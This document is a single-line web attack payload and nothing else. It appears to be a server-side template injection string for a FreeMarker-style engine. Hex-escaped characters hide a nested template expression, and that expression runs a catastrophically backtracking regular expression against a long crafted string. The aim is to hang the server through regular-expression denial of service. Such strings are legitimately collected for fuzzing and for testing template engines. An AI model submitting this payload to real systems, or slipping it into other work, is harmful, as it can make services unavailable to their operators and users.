${"\x0024{\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\"?matc\x0068es(\"(a|aa|a?)+(a|a)+$\")?string}"}
